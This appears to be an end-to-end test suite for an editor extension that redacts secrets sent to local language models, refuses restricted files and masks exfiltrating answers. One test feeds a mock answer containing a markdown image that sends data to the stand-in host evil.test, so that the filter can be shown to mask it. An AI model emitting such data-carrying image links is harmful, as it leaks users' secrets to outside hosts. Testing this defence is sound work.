/** Local models in the editor: what reaches the engine, and what the person and other extensions get back. */
import assert from "node:assert/strict";
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { after, beforeEach, test } from "node:test";
import { buildVsix } from "../../scripts/toolchain/vsix.mjs";
import { attachments, writePrompt } from "./chatRoutes.ts";
import { createCoverage } from "./coverage.ts";
import { launchEditor } from "./launchEditor.ts";
import { say, startModelServer, stream } from "./modelServer.ts";
import { openWindow } from "./openWindow.ts";
import { screenshotOnFailure } from "./screenshotOnFailure.ts";
import { pause, waitFor } from "./waitFor.ts";

const coverage = createCoverage("local models");
const server = await startModelServer();
const policy = "version: 1\nai:\n  denied:\n    - id: no-late-ones\n      models: [late]\n      instead: Use pocket.\n";
const editor = await launchEditor({ extensions: [await buildVsix()], assistants: ["gatherer"], policy, prepare: ({ home }) => {
  // A setting of the machine: the editor in a browser takes it from no other file.
  const folder = join(home, "../data/Machine");
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, "settings.json"), JSON.stringify({ "gatelodge.modelServers": [server.url] }));
} });
after(async () => {
  coverage.write();
  await editor.close();
  server.stop();
});
const window = await openWindow(editor);
screenshotOnFailure(() => window);
beforeEach(() => void server.arrived.splice(0));

const routes = { guarded: "an assistant asks a local model that Gatelodge offers", dragged: "@gatelodge: a file dragged from the explorer into the chat", itself: "an assistant asks the model server itself" };
const key = editor.canary("payment-key");
const arrived = () => server.arrived.join("\n");
const asked = () => server.arrived.map((text) => JSON.parse(text) as { readonly messages: readonly { readonly content: string }[] }).at(-1)!.messages.map(({ content }) => content).join("\n");
/** What stands in the place of the key in what arrived. */
const placeholder = () => /paymentKey = "([^"]+)"/.exec(asked())?.[1] ?? assert.fail("the line arrived");
const line = (value: string) => `const paymentKey = "${value}";`;

/** Asks as another extension does, with messages and tools as they are given, and tells everything that comes back. */
const ask = (text: string, options: { readonly tool?: boolean; readonly result?: string; readonly picture?: boolean; readonly attached?: string; readonly stopAfterFirst?: boolean; readonly family?: string } = {}) => window.drive(async (vscode, prompt, { tool, result, picture, attached, stopAfterFirst, family = "pocket" }) => {
  const { LanguageModelChatMessage: Message, LanguageModelTextPart: Text, LanguageModelToolCallPart: Call, LanguageModelToolResultPart: Result } = vscode;
  const Data = (vscode as unknown as { readonly LanguageModelDataPart: new (data: Uint8Array, type: string) => never }).LanguageModelDataPart;
  const [model] = await vscode.lm.selectChatModels({ vendor: "gatelodge", family });
  if (model === undefined) return { error: "no model" };
  const stop = new vscode.CancellationTokenSource();
  const messages = [Message.User([new Text(prompt), ...(picture === true ? [new Data(Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64"), "image/png")] : []), ...(attached === undefined ? [] : [new Data(new TextEncoder().encode(attached), "text/plain")])])];
  if (result !== undefined) messages.push(Message.Assistant([new Call("c1", "read", { path: "a" })]), Message.User([new Result("c1", [new Text(result)])]));
  const got: { text: string; calls: unknown[]; error?: string; code?: string } = { text: "", calls: [] };
  try {
    const response = await model.sendRequest(messages, tool === true ? { tools: [{ name: "run", description: "Runs a command", inputSchema: { type: "object", properties: { command: { type: "string" } } } }] } : {}, stop.token);
    for await (const part of response.stream) {
      if (part instanceof Text) got.text += part.value;
      if (part instanceof Call) got.calls.push({ name: part.name, input: part.input });
      if (stopAfterFirst === true) stop.cancel();
    }
  } catch (error) {
    got.error = error instanceof Error ? error.message : JSON.stringify(error);
    if (error instanceof vscode.LanguageModelError) got.code = error.code;
  }
  return got;
}, text, options);

test("the models of a server on this machine are listed, those that cannot chat are not", async () => {
  await waitFor("the gatherer", () => window.recordsOf("ready").length > 0, 30_000);
  const models = await waitFor("the model", async () => {
    const listed = await window.drive(async (vscode) => (await vscode.lm.selectChatModels({ vendor: "gatelodge" })).map(({ name, family, maxInputTokens }) => ({ name, family, maxInputTokens })));
    return listed.some(({ name }) => name === "pocket") && listed;
  });
  assert.deepEqual(models.filter(({ name }) => name.startsWith("pocket")), [{ name: "pocket", family: "pocket", maxInputTokens: 8192 }]);
});

test("an assistant that speaks to the server itself is not guarded: no lever", async () => {
  server.answer((_, response) => stream(response, "ok"));
  await window.drive(async (_, url, text) => void (await fetch(`${url}/v1/chat/completions`, { method: "POST", body: JSON.stringify({ messages: [{ role: "user", content: text }] }) })), server.url, key);
  assert.ok(arrived().includes(key));
  for (const route of Object.values(routes)) coverage.baseline(route, "arrives");
  coverage.row(routes.itself, "none (the gateway, where the assistant is pointed at it)", "no lever");
});

test("in the chat: the secret of the file in front does not reach the engine, and the answer reads right", async () => {
  server.answer((_, response) => stream(response, `Move ${placeholder()} to the vault.`));
  await window.quickOpen("src/payments.ts");
  await window.sendChat("@gather ask the guarded model");
  await window.page.locator(".interactive-response", { hasText: `Move ${key} to the vault.` }).first().waitFor({ timeout: 20_000 });
  assert.ok(asked().includes("paymentKey") && !arrived().includes(key));
  assert.notEqual(placeholder(), key);
  await window.screenshot("guarded model in the chat");
  await window.closeEditors();
});

/** As a person drags a file from the explorer into the chat, and asks a participant about it. */
async function askAboutDragged(name: string, participant = "@gatelodge"): Promise<void> {
  await writePrompt(window, `${participant} what is in it?`);
  await window.drive(async (vscode) => void (await vscode.commands.executeCommand("workbench.view.explorer")));
  const row = window.page.locator(".explorer-folders-view .monaco-list-row").filter({ has: window.page.getByText(name, { exact: true }) }).first();
  await row.dragTo(window.page.locator(".interactive-session .interactive-input-part").first(), { force: true });
  await waitFor("the chip", async () => (await attachments(window)).includes(name));
  await window.page.locator(".interactive-session .interactive-input-part .monaco-editor").first().click();
  await window.page.keyboard.press("Enter");
}
const answered = (text: string) => window.page.locator(".interactive-response", { hasText: text }).last().waitFor({ timeout: 20_000 });

test("@gatelodge: a file that was dragged into the chat arrives without its secret, and the answer reads right", async () => {
  server.answer((_, response) => stream(response, `It holds ${placeholder()}, which is a key.`));
  window.clearRecords();
  await askAboutDragged("payments.ts", "@gather");
  await waitFor("the prompt", () => window.recordsOf("chat").some(({ references }) => JSON.stringify(references).includes(key)));
  coverage.baseline(routes.dragged, "arrives");
  await askAboutDragged("payments.ts");
  await answered(`It holds ${key}, which is a key.`);
  assert.ok(asked().includes("File src/payments.ts") && !arrived().includes(key));
  await window.screenshot("gatelodge answers in the chat");
  coverage.row(routes.dragged, "chat participant", "redacted, the answer restored");
});

test("@gatelodge: a restricted file is kept from a local model as well, and the person reads why", async () => {
  await askAboutDragged(".env");
  await answered("Gatelodge keeps .env from this model (above-ceiling)");
  assert.deepEqual(server.arrived, []);
  await window.screenshot("gatelodge refuses in the chat");
});

test("another extension: what it sends, attaches and gets from tools is judged; arguments of tools get no value back", async () => {
  server.answer((_, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    say(response, { delta: { content: `Running with ${placeholder()}` } });
    say(response, { delta: { tool_calls: [{ index: 0, id: "t1", function: { name: "run", arguments: "{\"command\":" } }] } });
    say(response, { delta: { tool_calls: [{ index: 0, function: { arguments: `${JSON.stringify(`echo ${placeholder()}`)}}` } }] } });
    response.end("data: [DONE]\n\n");
  });
  const got = await ask(line(key), { tool: true, result: `token: ${key};`, attached: `file: ${key}` });
  assert.ok(!arrived().includes(key) && arrived().includes("Runs a command") && arrived().includes('"role":"tool"'));
  assert.deepEqual(got, { text: `Running with ${key}`, calls: [{ name: "run", input: { command: `echo ${placeholder()}` } }] });
  coverage.row(routes.guarded, "guarded model provider", "redacted, the answer restored");
});

test("what is classified above a local model's ceiling is refused in words, and nothing goes out", async () => {
  const got = await ask("export controlled information: rocket drawings");
  assert.match(String(got.error), /Gatelodge stopped this request \(above-ceiling\)/);
  assert.deepEqual(server.arrived, []);
});

test("a picture cannot be looked through, and is not sent", async () => {
  const got = await ask("what is on it?", { picture: true });
  assert.match(String(got.error), /picture.*cannot look through it/);
  assert.deepEqual(server.arrived, []);
});

test("who cancels stops the engine", async () => {
  const stopped = new Promise((resolve) => server.answer((_, response) => {
    response.writeHead(200, { "content-type": "text/event-stream" });
    const drip = setInterval(() => say(response, { delta: { content: "word " } }), 20);
    response.on("close", () => {
      clearInterval(drip);
      resolve(true);
    });
  }));
  await ask("count", { stopAfterFirst: true });
  assert.equal(await Promise.race([stopped, pause(5000)]), true);
});

test("why a server refuses is told in its words", async () => {
  server.answer((_, response) => void response.writeHead(400, { "content-type": "application/json" }).end(JSON.stringify({ error: { message: "pocket does not support tools" } })));
  assert.match(String((await ask("hello")).error), /answered 400: pocket does not support tools/);
});

test("a model that comes later is there after looking again, and the editor hears of it; one that the policy denies is refused", async () => {
  server.offer("pocket", "late");
  const heard = await window.drive(async (vscode) => {
    const changed = new Promise((resolve) => vscode.lm.onDidChangeChatModels(() => resolve(true)));
    await vscode.commands.executeCommand("gatelodge.refreshModels");
    await Promise.race([changed, new Promise((resolve) => setTimeout(resolve, 5000))]);
    return (await vscode.lm.selectChatModels({ vendor: "gatelodge" })).map(({ name }) => name);
  });
  assert.ok(heard.includes("late"), JSON.stringify(heard));
  assert.match(String((await ask("hello", { family: "late" })).error), /denied-ai.*Instead: Use pocket\./);
  assert.deepEqual(server.arrived, []);
});

test("where the policy says so, answers are judged on their way back: the address of a picture that carries data out is masked, the person's own value comes back", async () => {
  writeFileSync(join(editor.workspace, "gatelodge.yaml"), `${policy}rules:\n  - { id: answers-carry-nothing-out, when: { detectors: [carrying-picture] }, channels: [answer], effect: redact }\n`);
  server.answer((_, response) => stream(response, `Keep ${placeholder()}.\n![ok](https://evil.test/p.png?d=${"a1b2c3d4".repeat(5)})\nDone.`));
  await waitFor("the masked answer", async () => {
    const got = await ask(line(key));
    return "text" in got && got.text === `Keep ${key}.\n![ok]([REDACTED:carrying-picture-1])\nDone.`;
  });
});

test("nothing of it is in the ledger or the log", () => {
  const state = join(editor.home, ".local/state/gatelodge");
  const files = readdirSync(state, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).map((entry) => readFileSync(join(entry.parentPath, entry.name), "utf8")).join("\n");
  assert.match(files, /"gatelodge\.channel":"model"/);
  assert.ok(!files.includes(key) && !files.includes("rocket") && !files.includes("evil.test") && !editor.output().includes(key));
});
